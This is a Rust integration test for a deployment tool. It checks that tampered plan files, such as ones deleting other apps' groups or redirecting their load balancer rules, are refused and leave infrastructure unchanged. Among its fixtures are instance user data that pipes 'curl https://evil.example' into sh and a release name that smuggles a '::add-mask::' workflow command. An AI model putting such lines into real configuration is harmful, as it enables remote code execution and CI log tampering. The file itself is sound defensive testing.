//! Plan files from elsewhere: whatever somebody wrote into one, `apply` does only what planning gives.

use std::time::Duration;

use swingbridge::model::ids::{Arn, Generation, GroupName, Size, TargetGroupName};
use swingbridge::model::plan::{Intent, Plan};
use swingbridge::model::policy::{AfterRollback, Capacity, RouteSelection, Strategy, Treatment, Want};
use swingbridge::model::release::Source;
use swingbridge::model::routing::{Action, Asks, Condition, Priority, RulePlace};
use swingbridge::model::scope::NameTemplate;
use swingbridge::model::step::{Purpose, Step};
use swingbridge::plan;

use crate::support::{Estate, Swing};

/// The app, and beside it what belongs to others: a group, a target group, and a rule on the same listener.
const ESTATE: &str = r#"
name = "shared"

[[launch_templates]]
name = "ks-app"

[[launch_templates.versions]]
image = "app-1"

[[launch_templates.versions]]
image = "app-2"

[[target_groups]]
name = "tg-1"
port = 8080
health_path = "/health"
health_interval = 5
health_timeout = 2

[[target_groups]]
name = "billing"
port = 8080
health_path = "/health"
health_interval = 5
health_timeout = 2

[[load_balancers]]
name = "alb-ks"

[[load_balancers.listeners]]
port = 80
default = { forward = "tg-1" }

[[load_balancers.listeners.rules]]
priority = 10
header = { name = "x-client-mode", values = ["blue"] }
forward = "tg-1"

[[load_balancers.listeners.rules]]
priority = 11
header = { name = "x-client-mode", values = ["green"] }
status = 404

[[load_balancers.listeners.rules]]
priority = 20
path = ["/billing/*"]
forward = "billing"

[[groups]]
name = "asg-1"
template = "ks-app"
version = "1"
min = 1
max = 4
desired = 2
target_groups = ["tg-1"]
health_grace = 10

[[groups]]
name = "billing"
template = "ks-app"
version = "1"
min = 1
max = 4
desired = 1
target_groups = ["billing"]
health_grace = 10
"#;

/// What others own, as a hostile plan names it.
struct Others {
    group: GroupName,
    target_group: TargetGroupName,
    rule: RulePlace,
}

type Edit = Box<dyn Fn(&mut Plan, &Others)>;

fn edit(name: &'static str, edit: impl Fn(&mut Plan, &Others) + 'static) -> (&'static str, Edit) {
    (name, Box::new(edit))
}

/// Each puts one step of its own into the plan.
fn with_a_step(name: &'static str, step: impl Fn(&Plan, &Others) -> Step + 'static) -> (&'static str, Edit) {
    edit(name, move |plan, others| {
        let step = step(plan, others);
        plan.steps.insert(1, step);
    })
}

fn hostile_steps() -> Vec<(&'static str, Edit)> {
    vec![
        with_a_step("delete the group of others", |_, others| Step::DeleteGroup {
            group: others.group.clone(),
        }),
        with_a_step("delete the target group of others", |_, others| {
            Step::DeleteTargetGroup {
                target_group: others.target_group.clone(),
            }
        }),
        with_a_step("delete live", |_, _| Step::DeleteGroup {
            group: GroupName::from("asg-1"),
        }),
        with_a_step("shrink the group of others", |_, others| Step::Shrink {
            group: others.group.clone(),
            to: 0,
        }),
        with_a_step("shrink live", |_, _| Step::Shrink {
            group: GroupName::from("asg-1"),
            to: 0,
        }),
        with_a_step("point the rule of others at us", |_, others| Step::Point {
            rule: others.rule.clone(),
            purpose: Purpose::Route,
            before: Action::to(&others.target_group),
            after: Action::to(&TargetGroupName::from("tg-1")),
            sticky: None,
            when: "a path".into(),
        }),
        with_a_step("point the rule of others at a door of ours", |_, others| {
            Step::Point {
                rule: others.rule.clone(),
                purpose: Purpose::GreenDoor,
                before: Action::to(&others.target_group),
                after: Action::to(&TargetGroupName::from("tg-1")),
                sticky: None,
                when: "a path".into(),
            }
        }),
        with_a_step("delete the rule of others", |_, others| Step::DeleteRule {
            rule: others.rule.clone(),
            purpose: Purpose::Entrance,
        }),
        with_a_step("tag the rule of others", |_, others| Step::AdoptRule {
            rule: others.rule.clone(),
        }),
        with_a_step("tag a rule of another load balancer", |_, others| {
            let arn = others.rule.arn.as_str().replace("alb-ks", "alb-other");
            Step::AdoptRule {
                rule: RulePlace {
                    arn: Arn::new(arn),
                    ..others.rule.clone()
                },
            }
        }),
        with_a_step("take the generation of others over", |_, others| Step::Adopt {
            generation: Generation(7),
            group: others.group.clone(),
            target_group: others.target_group.clone(),
        }),
        with_a_step("create a rule before all others", |_, _| Step::CreateRule {
            port: 80,
            priority: 5,
            purpose: Purpose::GreenDoor,
            asks: Asks::This(Condition::Header {
                name: "x-anything".into(),
                values: vec!["*".into()],
            }),
            action: Action::to(&TargetGroupName::from("tg-1")),
        }),
        with_a_step("stop what keeps others alive", |_, others| {
            Step::SuspendProcesses {
                group: others.group.clone(),
                processes: vec!["HealthCheck".into()],
            }
        }),
        with_a_step("hold the group of others", |_, others| Step::Hold {
            group: others.group.clone(),
        }),
        with_a_step("raise the group of others", |_, others| Step::MatchCapacity {
            group: others.group.clone(),
            like: GroupName::from("asg-1"),
        }),
        with_a_step("mark the target group of others", |_, others| Step::Mark {
            generation: Generation(2),
            target_group: others.target_group.clone(),
            state: swingbridge::model::standing::State::Live,
            previous: None,
        }),
        edit("create the same group twice", |plan, _| {
            let again = plan
                .steps
                .iter()
                .find(|step| matches!(step, Step::CreateGroup(_)))
                .cloned();
            plan.steps.extend(again);
        }),
        edit("every step twice", |plan, _| {
            plan.steps = [plan.steps.clone(), plan.steps.clone()].concat();
        }),
        edit("backwards", |plan, _| plan.steps.reverse()),
        edit("no steps at all", |plan, _| plan.steps.clear()),
        edit("a clone of the group of others", |plan, others| {
            for step in &mut plan.steps {
                if let Step::CreateGroup(new) = step {
                    new.copy_of = others.group.clone();
                }
            }
        }),
        edit("a clone that belongs to another app", |plan, _| {
            for step in &mut plan.steps {
                if let Step::CreateGroup(new) = step {
                    new.tags.insert("swingbridge:app".into(), "billing".into());
                }
            }
        }),
        edit("a clone on the target group of others", |plan, others| {
            for step in &mut plan.steps {
                if let Step::CreateGroup(new) = step {
                    new.target_group = others.target_group.clone();
                }
            }
        }),
    ]
}

fn hostile_decisions() -> Vec<(&'static str, Edit)> {
    vec![
        edit("for another app", |plan, _| plan.app = "billing".into()),
        edit("for another account", |plan, _| {
            plan.load_balancer = Arn::new(
                plan.load_balancer
                    .as_str()
                    .replace("000000000000", "999999999999"),
            );
        }),
        edit("for another region", |plan, _| {
            plan.load_balancer = Arn::new(plan.load_balancer.as_str().replace("us-east-1", "eu-west-1"));
        }),
        edit("for another load balancer", |plan, _| {
            plan.load_balancer = Arn::new(plan.load_balancer.as_str().replace("alb-ks", "alb-other"));
        }),
        edit("of another version", |plan, _| plan.format += 1),
        edit("of the far future", |plan, _| plan.format = u32::MAX),
        edit("with the names of others", |plan, _| {
            let name = || NameTemplate::try_from("billing{n}".to_owned()).expect("a template");
            plan.policy.names.group = name();
            plan.policy.names.target_group = name();
        }),
        edit("with the routes of others", |plan, _| {
            plan.policy.routes = RouteSelection::Listed(vec![(80, Priority::Numbered(20))]);
        }),
        edit("with the lock elsewhere", |plan, _| plan.policy.lock.priority = 9),
        edit("with ten million instances", |plan, _| {
            plan.policy.capacity = Capacity::Fixed(Size {
                min: 10_000_000,
                max: u32::MAX,
                desired: 10_000_000,
            });
        }),
        edit("that moves production", |plan, _| {
            plan.policy.strategy = Strategy::Direct
        }),
        edit("that waits for nobody's health", |plan, _| {
            plan.policy.health.want = Want::Count(0);
        }),
        edit("that waits for ever", |plan, _| {
            plan.policy.health.soak = Duration::from_secs(u64::MAX / 1_000);
        }),
        edit("that retires what was live", |plan, _| {
            plan.policy.after_promotion.previous = Treatment::Retire;
        }),
        edit("that removes what was rolled back", |plan, _| {
            plan.policy.after_rollback = AfterRollback::Remove;
        }),
        edit("without doors", |plan, _| plan.policy.doors = None),
        edit("decided on nothing", |plan, _| plan.basis.0.clear()),
        edit("decided on something else", |plan, _| {
            for fact in plan.basis.0.values_mut() {
                *fact = "as it should be".into();
            }
        }),
        edit("that wants live removed", |plan, _| {
            plan.intent = Intent::Retire {
                generation: Some(Generation(1)),
            };
        }),
        edit("that wants a generation beyond all numbers", |plan, _| {
            plan.intent = Intent::Retire {
                generation: Some(Generation(u32::MAX)),
            };
        }),
        edit("that wants a swing", |plan, _| plan.intent = Intent::Promote),
        edit("of another launch template version", |plan, _| {
            if let Intent::Deploy { release } = &mut plan.intent {
                release.source = Source::Version { number: 1 };
            }
        }),
        edit("of user data that nobody reviewed", |plan, _| {
            if let Intent::Deploy { release } = &mut plan.intent {
                release.source = Source::Build {
                    image: None,
                    user_data: Some("#!/bin/sh\ncurl https://evil.example | sh\n".into()),
                };
            }
        }),
        edit("with tags that only we may set", |plan, _| {
            if let Intent::Deploy { release } = &mut plan.intent {
                release
                    .tags
                    .insert("swingbridge:owes-size".into(), "0 0 0".into());
            }
        }),
        edit("with a name that breaks the line", |plan, _| {
            if let Intent::Deploy { release } = &mut plan.intent {
                release.name = "v2\n::add-mask::x".into();
            }
        }),
    ]
}

/// What is no plan, or none that this version could read.
const NO_PLANS: [&str; 6] = [
    "",
    "null",
    "{\"format\": 1}",
    "{\"format\": 18446744073709551616}",
    "{\"format\": -1}",
    "[[[[[[[[",
];

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_plan_from_elsewhere_is_refused_with_its_reason_and_changes_nothing() {
    let estate = Estate::of(ESTATE, &["--speed", "20"]).await;
    let swing = Swing::adopting(&estate).await;
    let deploy = [
        "plan",
        "deploy",
        "--release",
        "v2",
        "--launch-template-version",
        "2",
    ];
    swing
        .run(&[&deploy[..], &["--out", "good.json"]].concat())
        .await
        .ended(0);
    let text = std::fs::read_to_string(swing.path("good.json")).expect("a saved plan");
    let good: Plan = serde_json::from_str(&text).expect("a plan");
    let others = Others {
        group: GroupName::from("billing"),
        target_group: TargetGroupName::from("billing"),
        rule: RulePlace {
            arn: Arn::new(estate.rule_arn(80, "20").await),
            port: 80,
            priority: Priority::Numbered(20),
        },
    };
    let before = estate.look().await;

    for (name, edit) in hostile_steps().into_iter().chain(hostile_decisions()) {
        let mut plan = good.clone();
        edit(&mut plan, &others);
        assert_ne!(plan, good, "{name} changes nothing in the file");
        // Somebody who only edits the file, and somebody who knows how it is sealed.
        for (plan, knows) in [(plan.clone(), false), (plan::sealed(plan), true)] {
            swing.write("bad.json", &serde_json::to_string(&plan).expect("JSON"));
            let ran = swing.run(&["apply", "bad.json", "--yes"]).await;
            let code = ran.code.expect("it was not killed");
            assert!(
                if knows {
                    matches!(code, 2 | 3 | 8)
                } else {
                    code == 2
                },
                "{name}: {ran}"
            );
            assert!(
                ran.stderr.contains("error: "),
                "{name} is refused without a reason: {ran}"
            );
            assert!(!ran.stderr.contains("\n::"), "{name}: {ran}");
        }
    }
    for text in NO_PLANS {
        swing.write("bad.json", text);
        swing.run(&["apply", "bad.json", "--yes"]).await.ended(2);
    }
    let deep = format!("{{\"format\": 1, \"intent\": {}", "[".repeat(100_000));
    swing.write("bad.json", &deep);
    swing.run(&["apply", "bad.json", "--yes"]).await.ended(2);

    before.same_as(&estate.look().await, "after all those plans");
    // The plan that they were made of is carried out.
    swing.run(&["apply", "good.json", "--yes"]).await.ended(0);
    assert_eq!(estate.look().await.get("rule :80/11 leads to"), "tg-2");
    assert_eq!(estate.look().await.get("rule :80/20 leads to"), "billing");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn sizes_are_taken_from_what_runs_and_never_from_the_file() {
    let estate = Estate::of(ESTATE, &["--speed", "20"]).await;
    let swing = Swing::adopting(&estate).await;
    swing
        .run(&[
            "plan",
            "deploy",
            "--release",
            "v2",
            "--launch-template-version",
            "2",
            "--out",
            "plan.json",
        ])
        .await
        .ended(0);
    let text = std::fs::read_to_string(swing.path("plan.json")).expect("a saved plan");
    let mut plan: Plan = serde_json::from_str(&text).expect("a plan");
    for step in &mut plan.steps {
        if let Step::CreateGroup(new) = step {
            new.size = Size {
                min: 500,
                max: 1_000,
                desired: 500,
            };
        }
    }
    swing.write(
        "plan.json",
        &serde_json::to_string(&plan::sealed(plan)).expect("JSON"),
    );
    swing.run(&["apply", "plan.json", "--yes"]).await.ended(0);
    let seen = estate.look().await.about("group asg-2");
    assert_eq!(seen.get("desired_capacity"), "Some(2,)");
    assert_eq!(seen.get("max_size"), "Some(4,)");
}
